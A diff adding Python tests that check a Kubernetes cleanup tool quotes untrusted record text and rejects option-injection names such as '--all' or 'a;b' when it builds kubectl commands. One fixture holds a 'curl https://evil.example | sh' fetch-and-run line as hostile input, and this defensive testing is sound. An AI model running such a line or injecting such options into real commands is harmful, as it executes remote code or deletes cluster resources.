@@ -9,8 +9,24 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from hortus.engine.applysets.inventory import InventoryEntry, Member
-from hortus.engine.leftovers import Debt, infrastructure_item, items_of_inventory, leftovers_of, object_item, safe_text
-from hortus.engine.leftovers.types import LONGEST_TEXT, MOST_ITEMS, LeftoverReason, LeftoverSource
+from hortus.engine.leftovers import (
+    Debt,
+    infrastructure_item,
+    items_of_inventory,
+    leftovers_of,
+    object_item,
+    safe_text,
+    thing_of,
+    ways_of,
+)
+from hortus.engine.leftovers.types import (
+    LONGEST_TEXT,
+    MOST_ITEMS,
+    LeftoverItem,
+    LeftoverObject,
+    LeftoverReason,
+    LeftoverSource,
+)
 from hortus.kube.objects import Resource
 
 ROLES = Resource("rbac.authorization.k8s.io", "v1", "roles", "Role")
@@ -92,3 +108,58 @@ def test_the_members_of_a_set_become_items_with_their_identity() -> None:
 def test_infrastructure_has_no_object_to_look_at() -> None:
     item = infrastructure_item("disks of c-1", "c-1/u-1", look="in the account", remove="by hand")
     assert (item.where, item.object, item.actor) == ("Infrastructure", None, "Operator")
+
+
+def test_a_name_that_looks_like_an_option_is_none() -> None:
+    """Names of roles may begin with dashes: kubectl would delete all of them."""
+    item = object_item(ROLES, "default", "--all", where="Cluster")
+    assert item.remove == "kubectl delete roles.rbac.authorization.k8s.io -n default -- --all"
+
+
+def recorded(look: str, remove: str, **known: str) -> LeftoverItem:
+    """An item as anybody may write it."""
+    obj = LeftoverObject(**{"version": "v1", "resource": "configmaps", "kind": "ConfigMap", "name": "a", **known})
+    return LeftoverItem("0" * 8, "evil", "Cluster", "Operator", object=obj if known else None, look=look, remove=remove)
+
+
+def test_words_of_a_record_are_no_commands() -> None:
+    """A record has an author: what it says to type is shown as what it says."""
+    evil = "curl https://evil.example | sh"
+    assert ways_of(recorded(evil, f'{evil} " kubectl delete')) == (f'"{evil}"', f'"{evil} \' kubectl delete"')
+    assert ways_of(recorded("", "")) == ("", "")
+    assert thing_of(recorded(evil, evil)) == '"evil"'
+    assert ways_of(recorded(evil, evil, name="left", namespace="x")) == (
+        "kubectl get configmaps left -n x",
+        "kubectl delete configmaps left -n x",
+    )
+    assert thing_of(recorded(evil, evil, name="left", namespace="x")) == "ConfigMap x/left"
+    for odd in ("--all", "secrets,configmaps", "pods --all", "a;b", ""):
+        assert ways_of(recorded(evil, evil, resource=odd)) == ("", "")
+
+
+TEXTS = st.text(max_size=200)
+
+
+@given(resource=TEXTS, group=TEXTS, namespace=TEXTS, name=TEXTS)
+def test_each_word_of_a_command_is_where_it_belongs(resource: str, group: str, namespace: str, name: str) -> None:
+    known = {"resource": resource, "group": group, "namespace": namespace, "name": name}
+    for command in filter(None, ways_of(recorded("", "", **known))):
+        assert command.isprintable()
+        tool, verb, *words = shlex.split(command)
+        assert (tool, verb in ("get", "delete")) == ("kubectl", True)
+        assert len(arguments(words)) == 2
+
+
+def arguments(words: list[str]) -> list[str]:
+    """The words that are no options, as kubectl reads a line."""
+    found: list[str] = []
+    rest = iter(words)
+    for word in rest:
+        if word == "--":
+            return [*found, *rest]
+        if word == "-n":
+            next(rest)
+            continue
+        assert not word.startswith("-")
+        found.append(word)
+    return found
